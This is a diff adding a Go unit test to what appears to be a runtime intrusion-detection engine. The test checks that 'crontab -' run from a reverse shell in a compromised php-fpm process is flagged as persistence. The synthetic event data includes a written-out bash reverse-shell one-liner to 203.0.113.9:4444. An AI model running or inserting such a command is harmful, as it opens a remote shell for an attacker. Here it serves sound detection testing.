@@ -394,3 +394,28 @@ func TestDeterministic(t *testing.T) {
 		t.Errorf("runs differ or are empty (%d vs %d findings)", len(a), len(b))
 	}
 }
+
+// TestPlacementBinaryArgv0: Tetragon reports the binary path as argv[0];
+// "crontab -" run inside a reverse shell is persistence whichever way
+// argv[0] is written.
+func TestPlacementBinaryArgv0(t *testing.T) {
+	for _, argv0 := range []string{"crontab", "/usr/bin/crontab"} {
+		e, err := New(Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		s := newSynth()
+		s.exec(200, 1, 33, "www-data", "/", "/usr/sbin/php-fpm8.2", "/usr/sbin/php-fpm8.2")
+		s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
+		e.Observe(s.connect(201, 200, 33, "/usr/bin/bash", "203.0.113.9", 4444), s.tree)
+		s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/bash", "bash", "-i")
+		fs := e.Observe(s.exec(203, 202, 33, "www-data", "/var/www", "/usr/bin/crontab", argv0, "-"), s.tree)
+		f := has(fs, "reverse-shell-channel-command")
+		if f == nil || f.Stage != StagePersistence {
+			t.Errorf("argv[0] %q: %v (stage %v)", argv0, ids(fs), f)
+		}
+	}
+	if got := placementCommand([]string{"/usr/bin/crontab", "-"}, "/usr/bin/crontab -"); got != "crontab -" {
+		t.Errorf("placementCommand = %q", got)
+	}
+}
